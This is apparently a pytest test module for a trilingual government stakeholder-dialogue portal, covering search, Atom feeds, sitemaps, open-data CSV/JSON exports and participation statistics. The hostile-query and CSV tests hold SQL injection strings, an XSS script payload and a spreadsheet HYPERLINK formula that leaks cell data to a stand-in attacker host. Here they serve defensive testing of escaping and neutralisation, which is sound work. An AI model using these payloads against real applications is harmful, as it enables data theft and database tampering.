"""People find, follow and reuse what the ministers committed to and what stakeholders said (issue 7)."""

import csv
import datetime
import io
import json
import re
from collections import Counter

import feedparser
import jsonschema
import pytest
from django.db import connection

from dialogue import open_data, services
from dialogue.models import Comment, Stakeholder
from dialogue.open_data import SCHEMA_PATH
from dialogue.spreadsheet import exact_text, safe_cell
from dialogue.text import fingerprint
from priorities.models import Directive, Priority, ProgressNote, Statement
from spp_portal import search as portal_search

from .factories import make_comment, make_statement, make_user

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("generous_rate_limit")]

on_postgresql = pytest.mark.skipif(
    connection.vendor != "postgresql",
    reason="full-text search with language configurations needs PostgreSQL (CI runs the suite on it too)",
)
on_sqlite = pytest.mark.skipif(connection.vendor != "sqlite", reason="the icontains fallback is SQLite's engine")

FRENCH = "La sécurité à la frontière entre nos deux pays retarde les camions de nos membres."
SPANISH = "Las fronteras seguras requieren inspecciones compartidas entre los tres países."


@pytest.fixture
def statement():
    return make_statement(
        title_en="Joint statement on border modernisation",
        title_fr="Déclaration commune sur la modernisation des frontières",
        title_es="Declaración conjunta sobre la modernización de las fronteras",
        body_en="Ministers agreed to modernise the shared border crossings.",
        body_fr="Les ministres ont convenu de moderniser les postes frontaliers communs.",
        body_es="Los ministros acordaron modernizar los cruces fronterizos compartidos.",
    )


def results(response):
    """(kind, object) of each result on a search page."""
    return [(result.kind, result.object) for result in response.context["page"].object_list]


def comments_found(response):
    return [obj.tracking_number for kind, obj in results(response) if kind == "comment"]


class TestSearch:
    def test_finds_an_approved_comment_and_never_a_pending_one(self, client, statement, moderator):
        approved = make_comment(statement, body="Customs brokers need longer hours at Lacolle.", approve_by=moderator)
        pending = make_comment(statement, body="Customs brokers in Laredo want the same.")
        response = client.get("/en/search/", {"q": "customs brokers"})
        assert response.status_code == 200
        found = comments_found(response)
        assert approved.tracking_number in found
        assert pending.tracking_number not in found
        assert "Laredo" not in response.text
        assert "<mark>" in response.text

    def test_finds_statements_and_directives_in_each_language(self, client, statement):
        response = client.get("/fr/search/", {"q": "moderniser"})
        assert ("statement", statement) in results(response)
        directive = statement.directives.first()
        directive.text_es = "Armonizar las normas de etiquetado de alimentos."
        directive.save()
        response = client.get("/es/search/", {"q": "etiquetado"})
        assert ("directive", directive) in results(response)

    def test_filters_by_country_sector_language_priority_and_year(self, client, statement, moderator):
        canadian = make_user(country="CA", sector="business")
        mexican = make_user(country="MX", sector="academia")
        priority = Priority.objects.get(slug="smart-and-secure-borders")
        by_canadian = make_comment(
            statement, author=canadian, body="Trusted trader lanes help.", approve_by=moderator, priority=priority
        )
        by_mexican = make_comment(
            statement, author=mexican, body="Trusted trader lanes, por favor.", approve_by=moderator, language="es"
        )
        query = {"q": "trusted trader"}
        assert set(comments_found(client.get("/en/search/", query))) == {
            by_canadian.tracking_number,
            by_mexican.tracking_number,
        }
        assert comments_found(client.get("/en/search/", {**query, "country": "MX"})) == [by_mexican.tracking_number]
        assert comments_found(client.get("/en/search/", {**query, "sector": "business"})) == [
            by_canadian.tracking_number
        ]
        assert comments_found(client.get("/en/search/", {**query, "language": "en"})) == [by_canadian.tracking_number]
        assert comments_found(client.get("/en/search/", {**query, "priority": priority.slug})) == [
            by_canadian.tracking_number
        ]
        make_statement(release_date=datetime.date(2007, 8, 21))
        assert len(comments_found(client.get("/en/search/", {**query, "year": statement.release_date.year}))) == 2
        assert comments_found(client.get("/en/search/", {**query, "year": 2007})) == []
        # Country and sector describe comment authors: statements and directives are left out.
        response = client.get("/en/search/", {"q": "border", "country": "CA"})
        assert all(kind == "comment" for kind, _obj in results(response))

    @pytest.mark.parametrize(
        ("query", "message"),
        [
            ("", "Type one or more words"),
            ("   ", "Type one or more words"),
            ("x" * 201, "longer than 200 characters"),
            ("!!!", "no letters or numbers"),
            ("¿¡…—«»", "no letters or numbers"),
        ],
    )
    def test_queries_that_cannot_be_searched_get_a_clear_message(self, client, query, message):
        response = client.get("/en/search/", {"q": query})
        assert response.status_code == 200
        assert message in response.text
        assert response.context["page"] is None

    def test_a_nul_byte_in_the_query_is_a_bad_request(self, client):
        """No browser sends one (a crafted address does): 400, in the reader's language, never a 500."""
        response = client.get("/fr/search/", {"q": "\x00border"})
        assert response.status_code == 400
        assert "Requête incorrecte" in response.text and '<html lang="fr"' in response.text

    @pytest.mark.parametrize(
        "query",
        [
            "'; DROP TABLE dialogue_comment; --",
            '" OR 1=1 --',
            "<script>alert('x')</script>",
            "border & ! | ( ) : * <-> \\",
            '"unbalanced quote',
            "-border -",
            "x" * 200,
            "the a of",
        ],
    )
    def test_hostile_queries_never_error(self, client, statement, moderator, query):
        make_comment(statement, body="<script>alert('x')</script> border crossing", approve_by=moderator)
        response = client.get("/en/search/", {"q": query, "page": "999", "year": "nope", "priority": "<b>"})
        assert response.status_code == 200
        assert "<script>alert" not in response.text

    def test_search_box_in_the_header_on_every_page(self, client):
        response = client.get("/fr/")
        assert 'action="/fr/search/"' in response.text and 'name="q"' in response.text

    def test_query_count_is_fixed_however_many_results(
        self, client, statement, moderator, django_assert_num_queries, django_assert_max_num_queries
    ):
        for number in range(5):
            make_comment(statement, body=f"Border crossing comment {number}", approve_by=moderator)
        for _ in range(3):
            other = make_statement(title_en="Another border statement")
            other.directives.update(text_en="Report on border crossings")
        # filter choices (years, priorities, verified organisations), the page of (kind, id) with the count
        # (one query), then statements, directives, comments; plus the cache generation's one query on a
        # cold cache (the footer is a shared fragment)
        with django_assert_num_queries(1 + 7):
            response = client.get("/en/search/", {"q": "border"})
        assert {kind for kind, _obj in results(response)} == {"statement", "directive", "comment"}
        for number in range(25):
            make_comment(statement, body=f"More on the border {number}", approve_by=moderator)
        with django_assert_max_num_queries(1 + 7):
            response = client.get("/en/search/", {"q": "border", "page": "2"})
        assert response.context["page"].paginator.count > 40


@on_postgresql
class TestFullTextSearch:
    def test_french_comment_found_by_french_words_with_accents_and_stemming(self, client, statement, moderator):
        comment = make_comment(statement, body=FRENCH, language="fr", approve_by=moderator)
        for words in ["sécurité", "frontières", "Frontière", "retarder les camions"]:
            response = client.get("/fr/search/", {"q": words})
            assert comment.tracking_number in comments_found(response), words
        response = client.get("/fr/search/", {"q": "frontières"})
        assert "<mark>frontière</mark>" in response.text

    def test_spanish_comment_found_by_spanish_words_with_accents_and_stemming(self, client, statement, moderator):
        comment = make_comment(statement, body=SPANISH, language="es", approve_by=moderator)
        for words in ["frontera", "país", "inspección compartida"]:
            response = client.get("/es/search/", {"q": words})
            assert comment.tracking_number in comments_found(response), words
        assert "<mark>fronteras</mark>" in client.get("/es/search/", {"q": "frontera"}).text

    def test_results_are_ranked(self, client, statement, moderator):
        once = make_comment(statement, body="Une remarque sur la frontière.", language="fr", approve_by=moderator)
        often = make_comment(
            statement,
            body="Frontière, frontières : la frontière doit rester ouverte à la frontière.",
            language="fr",
            approve_by=moderator,
        )
        found = comments_found(client.get("/fr/search/", {"q": "frontière", "language": "fr"}))
        assert found.index(often.tracking_number) < found.index(once.tracking_number)

    def test_searched_expressions_are_the_indexed_ones(self):
        """Each language's vector, as the search writes it, is answered from its GIN index (EXPLAIN)."""
        with connection.cursor() as cursor:
            cursor.execute("SET LOCAL enable_seqscan = off")
        for lang, config in portal_search.LANGUAGE_CONFIGS.items():
            query = portal_search.SearchQuery("frontière", config=config, search_type="websearch")
            plans = {
                "statement": Statement.objects.alias(v=portal_search.statement_vector(lang)).filter(v=query),
                "directive": Directive.objects.alias(v=portal_search.directive_vector(lang)).filter(v=query),
                "comment": Comment.objects.filter(language=lang)
                .alias(v=portal_search.comment_vector(lang))
                .filter(v=query),
            }
            for kind, queryset in plans.items():
                plan = queryset.order_by().explain()
                # comments: one index for the three languages (dialogue/migrations/0008)
                assert f"{kind}_search_{lang}" in plan if kind != "comment" else "comment_search" in plan, plan


@on_sqlite
class TestSQLiteFallback:
    def test_every_word_must_appear_and_matches_are_marked(self, client, statement, moderator):
        both = make_comment(statement, body="Wait times at the Ambassador Bridge are long.", approve_by=moderator)
        one = make_comment(statement, body="Wait times elsewhere are fine.", approve_by=moderator)
        response = client.get("/en/search/", {"q": "ambassador wait"})
        assert comments_found(response) == [both.tracking_number]
        assert one.tracking_number not in response.text
        assert "<mark>Ambassador</mark>" in response.text and "<mark>Wait</mark>" in response.text

    def test_french_words_found_as_typed(self, client, statement, moderator):
        comment = make_comment(statement, body=FRENCH, language="fr", approve_by=moderator)
        assert comments_found(client.get("/fr/search/", {"q": "sécurité"})) == [comment.tracking_number]


class TestFeeds:
    def test_statements_feed_is_atom_in_each_language(self, client, statement):
        for lang, title in [("en", statement.title_en), ("fr", statement.title_fr), ("es", statement.title_es)]:
            response = client.get(f"/{lang}/statements/feed/")
            assert response.status_code == 200
            assert response["Content-Type"].startswith("application/atom+xml")
            feed = feedparser.parse(response.content)
            assert not feed.bozo, feed.get("bozo_exception")
            assert feed.version == "atom10"
            assert feed.feed.language == lang
            assert title in [entry.title for entry in feed.entries]
            assert any(entry.link.endswith(f"/{lang}/statements/{statement.slug}/") for entry in feed.entries)

    def test_comment_feed_lists_approved_comments_only(self, client, statement, moderator):
        approved = make_comment(statement, body="An approved thought.", approve_by=moderator)
        pending = make_comment(statement, body="A pending thought.")
        feed = feedparser.parse(client.get(f"/fr/statements/{statement.slug}/comments/feed/").content)
        assert not feed.bozo and feed.version == "atom10"
        assert [entry.link.rsplit("#", 1)[1] for entry in feed.entries] == [f"comment-{approved.tracking_number}"]
        assert pending.tracking_number not in str(feed)

    def test_comment_feed_of_an_unpublished_statement_is_404(self, client):
        draft = make_statement(status="draft")
        assert client.get(f"/en/statements/{draft.slug}/comments/feed/").status_code == 404

    def test_priority_activity_feed(self, client, statement, moderator):
        priority = Priority.objects.get(slug="smart-and-secure-borders")
        on_priority = make_comment(statement, body="About borders.", priority=priority, approve_by=moderator)
        elsewhere = make_comment(statement, body="About something else.", approve_by=moderator)
        feed = feedparser.parse(client.get(f"/es/priorities/{priority.slug}/feed/").content)
        assert not feed.bozo and feed.version == "atom10"
        links = [entry.link for entry in feed.entries]
        assert any(link.endswith(f"/es/statements/{statement.slug}/") for link in links)
        assert any(link.endswith(f"#comment-{on_priority.tracking_number}") for link in links)
        assert not any(elsewhere.tracking_number in link for link in links)

    def test_pages_link_to_their_feeds(self, client, statement):
        def alternates(path):
            html = client.get(path).text
            return re.findall(r'<link rel="alternate" type="application/atom\+xml"[^>]*href="([^"]+)"', html)

        assert "/en/statements/feed/" in alternates("/en/")
        assert "/fr/statements/feed/" in alternates("/fr/statements/")
        assert f"/en/statements/{statement.slug}/comments/feed/" in alternates(f"/en/statements/{statement.slug}/")
        assert "/es/priorities/competitiveness/feed/" in alternates("/es/priorities/competitiveness/")


class TestSitemap:
    def test_every_public_page_in_three_languages_with_hreflang_alternates(self, client, statement):
        draft = make_statement(status="draft")
        response = client.get("/sitemap.xml")
        assert response.status_code == 200
        xml = response.text
        for lang in ("en", "fr", "es"):
            for path in [
                "/",
                "/priorities/",
                "/statements/",
                f"/statements/{statement.slug}/",
                "/priorities/competitiveness/",
                "/search/",
                "/open-data/",
                "/participation/",
                f"/participation/statements/{statement.slug}/",
            ]:
                assert f"<loc>http://testserver/{lang}{path}</loc>" in xml, (lang, path)
            assert f'hreflang="{lang}" href="http://testserver/{lang}/statements/{statement.slug}/"' in xml
        assert 'hreflang="x-default"' in xml
        assert draft.slug not in xml
        assert "/accounts/" not in xml and "/moderation/" not in xml

    def test_robots_points_at_the_sitemap(self, client):
        assert "Sitemap: http://testserver/sitemap.xml" in client.get("/robots.txt").text


@pytest.fixture
def conversation(statement, moderator):
    """Approved comments (one reply, one answered, one by a deleted account), a pending and a rejected one."""
    author = make_user(display_name="Dana", country="CA", sector="industry", organisation="Forum", email="d@x.org")
    first = make_comment(
        statement,
        author=author,
        body="Première remarque, « citée », avec virgule.",
        language="fr",
        approve_by=moderator,
    )
    reply = make_comment(statement, body="A reply =SUM(A1)", parent=first, approve_by=moderator)
    gone = make_user(display_name="Soon Gone", country="MX")
    anonymised = make_comment(
        statement, author=gone, body="Comentario de alguien que se fue.", language="es", approve_by=moderator
    )
    services.account_delete(user=gone)
    services.response_post(comment=first, moderator=moderator, government="CA", body="Merci.", language="fr")
    pending = make_comment(statement, body="Still pending.")
    rejected = make_comment(statement, body="Rejected one.")
    services.comment_reject(comment=rejected, seen=rejected.fingerprint, moderator=moderator, reason="off_topic")
    return {"approved": [first, reply, anonymised], "pending": pending, "rejected": rejected}


def streamed(response) -> str:
    """An export's text: whole (and cached) for a conversation up to CACHED_EXPORT_COMMENTS, streamed beyond."""
    return (b"".join(response.streaming_content) if response.streaming else response.content).decode("utf-8")


class TestOpenData:
    def test_a_conversations_export_is_cached_until_that_conversation_changes(
        self, client, statement, conversation, moderator, django_assert_num_queries
    ):
        url = f"/en/open-data/statements/{statement.slug}/comments.json"
        other = make_statement(slug="another-statement")
        other_url = f"/en/open-data/statements/{other.slug}/comments.json"
        assert len(json.loads(client.get(url).content)["comments"]) == 3
        client.get(other_url)
        with django_assert_num_queries(0):
            response = client.get(url, HTTP_ACCEPT_ENCODING="gzip")
        assert response["Content-Encoding"] == "gzip" and f"statement:{statement.slug}" in response["Surrogate-Key"]
        make_comment(statement, body="Approved after the first download.", approve_by=moderator)
        records = json.loads(client.get(url).content)["comments"]
        assert records[-1]["body"] == "Approved after the first download."
        with django_assert_num_queries(0):
            client.get(other_url)  # another statement's export stays cached

    def test_a_large_export_is_streamed(self, client, statement, conversation, monkeypatch):
        monkeypatch.setattr(open_data, "CACHED_EXPORT_COMMENTS", 2)
        response = client.get(f"/en/open-data/statements/{statement.slug}/comments.csv")
        assert response.streaming and "Première remarque" in streamed(response)

    def test_json_export_validates_against_the_committed_schema(self, client, statement, conversation):
        response = client.get(f"/en/open-data/statements/{statement.slug}/comments.json")
        assert response["Content-Type"].startswith("application/json")
        data = json.loads(streamed(response))
        schema = json.loads(SCHEMA_PATH.read_text())
        jsonschema.Draft202012Validator.check_schema(schema)
        jsonschema.validate(data, schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
        records = {record["tracking_number"]: record for record in data["comments"]}
        first, reply, anonymised = conversation["approved"]
        assert list(records) == [c.tracking_number for c in conversation["approved"]]
        assert records[first.tracking_number]["responses"][0]["body"] == "Merci."
        assert records[first.tracking_number]["organisation"] == "Forum"
        assert records[reply.tracking_number]["parent"] == first.tracking_number
        assert records[anonymised.tracking_number]["author"] == "Former participant"
        assert records[anonymised.tracking_number]["country"] is None

    def test_csv_has_the_header_every_approved_comment_and_no_other(self, client, statement, conversation):
        text = streamed(client.get(f"/fr/open-data/statements/{statement.slug}/comments.csv"))
        rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
        assert text.startswith("\ufefftracking_number,fingerprint,date,language,author,country,sector,organisation,")
        assert [row["tracking_number"] for row in rows] == [c.tracking_number for c in conversation["approved"]]
        assert rows[0]["body"] == "Première remarque, « citée », avec virgule."
        assert rows[0]["response"] == "Merci." and rows[0]["response_government"] == "CA"
        assert rows[2]["author"] == "Ancien participant" or rows[2]["author"] == "Former participant"
        for other in (conversation["pending"], conversation["rejected"]):
            assert other.tracking_number not in text and other.body not in text

    def test_no_personal_data_beyond_the_page(self, client, statement, conversation):
        text = streamed(client.get(f"/en/open-data/statements/{statement.slug}/comments.json"))
        assert "d@x.org" not in text and "@example.org" not in text and "Soon Gone" not in text

    @pytest.mark.parametrize("extension", ["json", "csv"])
    def test_export_costs_one_query_per_chunk_not_per_comment(
        self, client, statement, moderator, monkeypatch, django_assert_num_queries, extension
    ):
        """Streamed in chunks (five here, 2,000 in production): 12 comments cross two chunk boundaries."""
        monkeypatch.setattr(open_data, "CHUNK", 5)
        comments = [make_comment(statement, approve_by=moderator) for _ in range(12)]
        answered = comments[4:7] + comments[11:]  # on both sides of the first boundary, and in the last chunk
        for comment in answered:
            services.response_post(
                comment=comment, moderator=moderator, government="MX", body=f"Answer to {comment.pk}", language="es"
            )
        # The page cache's next scheduled change (a cold cache), the statement, how many comments (cached
        # whole if few), the comments (one query, read chunk by chunk), their responses and their
        # attached files once per chunk.
        with django_assert_num_queries(1 + 1 + 1 + 1 + 3 + 3):
            text = streamed(client.get(f"/en/open-data/statements/{statement.slug}/comments.{extension}"))
        if extension == "json":
            records = json.loads(text)["comments"]
        else:
            records = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
        assert [record["tracking_number"] for record in records] == [c.tracking_number for c in comments]
        for record, comment in zip(records, comments, strict=True):
            expected = f"Answer to {comment.pk}" if comment in answered else None
            found = record["responses"][0]["body"] if extension == "json" and record["responses"] else None
            if extension == "csv":
                found = record["response"] or None
            assert found == expected, comment.tracking_number

    def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_the_json_keeps_the_text(
        self, client, statement, moderator
    ):
        """Cells beginning with = + - @ tab or CR (OWASP CSV injection) get a leading quote; JSON is exact."""
        bodies = [
            '=HYPERLINK("https://evil.example/?"&A1,"Click for the summary")',
            "+1 555 0100 is the number to call about border crossings.",
            "-2+3 more inspectors at the Laredo crossing, please.",
            "@SUM(A1:A9) of the wait times is longer every year.",
            "'=A quote already leads this comment about the borders.",
            "An ordinary comment = no formula, mid-text signs + - @ stay as they are.",
        ]
        author = make_user(display_name="\t=1+1 tab-led name", organisation="\r@cr-led organisation")
        comments = [make_comment(statement, author=author, body=body, approve_by=moderator) for body in bodies]
        services.response_post(
            comment=comments[0], moderator=moderator, government="US", body="-1 for phishing.", language="en"
        )
        text = streamed(client.get(f"/en/open-data/statements/{statement.slug}/comments.csv"))
        rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
        cells = [row["body"] for row in rows]
        assert cells[:5] == ["'" + body for body in bodies[:5]]
        assert cells[5] == bodies[5], "text that does not begin like a formula is left exactly as it is"
        assert rows[0]["response"] == "'-1 for phishing."
        assert {row["author"] for row in rows} == {"'\t=1+1 tab-led name"}
        assert {row["organisation"] for row in rows} == {"'\r@cr-led organisation"}
        # What the README tells readers: a cell beginning with a quote had one added; remove it.
        for row, comment in zip(rows, comments, strict=True):
            assert exact_text(row["body"]) == comment.body
            assert fingerprint(exact_text(row["body"])) == row["fingerprint"] == comment.fingerprint
        records = json.loads(streamed(client.get(f"/en/open-data/statements/{statement.slug}/comments.json")))
        assert [record["body"] for record in records["comments"]] == bodies
        assert records["comments"][0]["author"] == "\t=1+1 tab-led name"
        assert records["comments"][0]["responses"][0]["body"] == "-1 for phishing."

    def test_unpublished_statement_has_no_export(self, client):
        draft = make_statement(status="draft")
        assert client.get(f"/en/open-data/statements/{draft.slug}/comments.csv").status_code == 404

    def test_open_data_page_links_schema_licence_and_downloads(self, client, statement):
        response = client.get("/es/open-data/")
        assert response.status_code == 200
        assert f"/es/open-data/statements/{statement.slug}/comments.csv" in response.text
        assert 'id="licence"' in response.text and "/es/open-data/comments.schema.json" in response.text
        schema = client.get("/es/open-data/comments.schema.json")
        assert schema["Content-Type"] == "application/schema+json"
        assert json.loads(b"".join(schema.streaming_content))["$defs"]["comment"]


class TestParticipation:
    def test_figures_equal_counts_computed_independently(self, client, statement, moderator):
        people = [
            make_user(country="CA", sector="business"),
            make_user(country="MX", sector="academia"),
            make_user(country="US", sector="business"),
        ]
        made = []
        for number, (author, language) in enumerate(
            [(people[0], "en"), (people[0], "fr"), (people[1], "es"), (people[2], "en"), (people[1], "es")]
        ):
            made.append(
                make_comment(
                    statement, author=author, language=language, body=f"Comment {number}", approve_by=moderator
                )
            )
        make_comment(statement, author=people[2], body="Pending, not counted.")
        other = make_statement()
        make_comment(other, author=people[0], body="On another statement.", approve_by=moderator)
        services.response_post(comment=made[0], moderator=moderator, government="joint", body="Thanks", language="en")

        response = client.get(f"/en/participation/statements/{statement.slug}/")
        assert response.status_code == 200
        figures = response.context["figures"]
        authors = {c.pk: c.author.stakeholder for c in made}
        expected = {
            "By country": Counter(Stakeholder.Country(authors[c.pk].country).label for c in made),
            "By sector": Counter(Stakeholder.Sector(authors[c.pk].sector).label for c in made),
            "By language": Counter({"en": "English", "fr": "French", "es": "Spanish"}[c.language] for c in made),
        }
        tables = {str(table.title): {str(row.label): row.count for row in table.rows} for table in figures.tables}
        for title, counts in expected.items():
            assert tables[title] == dict(counts), title
        assert sum(tables["By month"].values()) == len(made)
        assert figures.total == 5 and figures.responded == 1
        assert 'id="total-comments">5<' in response.text
        assert "1 (20.0%)" in response.text
        assert "<svg" in response.text and "style=" not in response.text

        crosstabs = {str(table.title): table for table in figures.crosstabs}
        for title, column_of in (
            ("By country and sector", lambda c: Stakeholder.Sector(authors[c.pk].sector).label),
            ("By country and language", lambda c: {"en": "English", "fr": "French", "es": "Spanish"}[c.language]),
        ):
            table = crosstabs[title]
            shown = {
                (str(label), str(column)): count
                for label, counts, _total in table.rows
                for column, count in zip(table.columns, counts, strict=True)
                if count
            }
            independent = Counter((Stakeholder.Country(authors[c.pk].country).label, column_of(c)) for c in made)
            assert shown == dict(independent), title
            assert table.total == 5 and sum(table.column_totals) == 5
            assert [total for _label, _counts, total in table.rows] == [sum(counts) for _l, counts, _t in table.rows]
        assert "By country and sector" in response.text and "participation-crosstab" in response.text

        overall = client.get("/fr/participation/").context["figures"]
        assert overall.total == 6

    def test_priority_dashboard_counts_comments_about_the_priority(self, client, statement, moderator):
        priority = Priority.objects.get(slug="competitiveness")
        make_comment(statement, body="On competitiveness", priority=priority, approve_by=moderator)
        make_comment(statement, body="General", approve_by=moderator)
        figures = client.get(f"/es/participation/priorities/{priority.slug}/").context["figures"]
        assert figures.total == 1

    def test_dashboard_query_count_is_fixed(self, client, statement, moderator, django_assert_num_queries):
        for _ in range(10):
            make_comment(statement, author=make_user(country="US"), approve_by=moderator)
        # page cache generation, the statement, then totals, the five tables (country, sector, language,
        # month, organisation) and the two cross-tabulations
        with django_assert_num_queries(1 + 1 + 6 + 2):
            client.get(f"/en/participation/statements/{statement.slug}/")


class TestDirectiveProgress:
    def test_priority_page_shows_progress_and_dated_notes_across_statements(self, client, statement):
        priority = Priority.objects.get(slug="competitiveness")
        older = make_statement(release_date=datetime.date(2007, 8, 21))
        for number, item in enumerate([statement, older]):
            directive = Directive.objects.get(statement=item, priority=priority)
            directive.progress = Directive.Progress.UNDER_WAY if number else Directive.Progress.ACHIEVED
            directive.save()
            ProgressNote.objects.create(
                directive=directive,
                date=datetime.date(2008, 3 + number, 1),
                note_en=f"Working group met ({number}).",
                note_fr=f"Le groupe de travail s'est réuni ({number}).",
            )
        page = client.get("/fr/priorities/competitiveness/").text
        assert "Le groupe de travail s&#x27;est réuni (0)." in page
        assert "Le groupe de travail s&#x27;est réuni (1)." in page
        assert page.index(statement.title_fr) < page.index(older.title)

    def test_publishers_may_add_progress_notes(self):
        from django.contrib.auth.models import Group

        codenames = set(Group.objects.get(name="Publishers").permissions.values_list("codename", flat=True))
        assert {"add_progressnote", "change_progressnote", "view_progressnote", "delete_progressnote"} <= codenames


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'"])
def test_every_formula_start_is_neutralised_and_recoverable(start):
    """The OWASP list (= + - @ tab CR), and the quote itself so that removing one leading quote is always exact."""
    text = f"{start}1+1 and more"
    assert safe_cell(text) == "'" + text
    assert exact_text(safe_cell(text)) == text
